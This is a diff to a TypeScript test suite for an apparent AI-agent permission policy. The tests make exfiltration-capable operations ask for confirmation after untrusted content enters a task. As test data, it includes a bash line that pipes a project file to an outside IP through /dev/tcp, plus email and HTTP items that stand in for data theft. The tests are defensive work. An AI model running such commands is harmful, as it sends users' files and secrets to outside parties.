@@ -309,11 +309,15 @@ describe('shell commands', () => {
 describe('untrusted content', () => {
   const trusting = {
     security: { require_confirmation: false },
-    integrations: { network: { allowed_hosts: ['api.example.com'] } },
+    integrations: { network: { allowed_hosts: ['api.example.com'] }, browser: { enabled: true } },
   };
   it.each([
     { op: 'send_email', recipients: ['mallory@example.com'] },
     { op: 'http_request', method: 'GET', url: 'https://api.example.com/?q=secret' },
+    { op: 'http_request', method: 'HEAD', url: 'https://api.example.com/secret' },
+    { op: 'http_request', method: 'POST', url: 'https://api.example.com/' },
+    { op: 'browser', url: 'https://api.example.com/?q=secret' },
+    { op: 'execute_shell', command: 'git push origin main', cwd: '~/projects' },
   ] as PolicyOperation[])('makes $op ask once untrusted content is in the task', (operation) => {
     const policy = enforcer(trusting);
     expect(decide(policy, operation).decision).toBe('allow');
@@ -339,6 +343,33 @@ describe('untrusted content', () => {
         .decision,
     ).toBe('allow');
   });
+
+  it.each([
+    ['an interpreter running a script', 'python3 send.py', 'python3'],
+    ['a script through node', 'node tools/upload.js app/main.ts', 'node'],
+    ['an unknown program', './bin/sync-notes', 'sync-notes'],
+    ['bash connecting through /dev/tcp', 'cat app/main.ts > /dev/tcp/203.0.113.9/80', ''],
+    ['a wrapped interpreter', 'timeout 5 perl upload.pl', 'perl'],
+  ])(
+    'after untrusted content, asks before %s (it could send data out)',
+    (_label, command, program) => {
+      const policy = enforcer(trusting);
+      const operation: PolicyOperation = { op: 'execute_shell', command, cwd: projects() };
+      expect(decide(policy, operation).decision).toBe('allow');
+      const tainted = decide(policy, operation, { tainted: true });
+      expect(tainted).toMatchObject({ decision: 'ask' });
+      expect(tainted.reason).toContain('untrusted content');
+      expect(tainted.reason).toContain(program);
+    },
+  );
+
+  it.each(['grep -rn hello app', 'wc -l app/main.ts', 'git status', 'sort app/a | uniq -c'])(
+    'after untrusted content, still runs %s (local programs only)',
+    (command) => {
+      const operation: PolicyOperation = { op: 'execute_shell', command, cwd: projects() };
+      expect(decide(enforcer(trusting), operation, { tainted: true }).decision).toBe('allow');
+    },
+  );
 });
 
 describe('email, http and browser input', () => {
